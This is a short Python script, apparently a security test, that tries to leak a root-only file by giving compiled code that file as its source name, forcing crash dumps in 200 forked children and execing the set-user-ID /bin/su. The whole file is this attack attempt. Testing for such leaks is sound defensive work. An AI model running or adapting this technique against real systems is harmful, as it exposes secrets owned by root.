"""A process names root's secret file as its source, dumps, and becomes a set-user-ID program."""
import ctypes
import os

dump = ctypes.PyDLL(None).pyfault_dump
TRIES = 200
scope = {}
exec(compile("def f(call):\n    call()\n", os.environ["HOSTILE_SECRET"], "exec"), scope)
for _ in range(TRIES):
    if os.fork() == 0:
        scope["f"](dump)
        os.execv("/bin/su", ["su", "--help"])
    os.wait()
open(os.environ["HOSTILE_TRIES"], "w").write(str(TRIES))
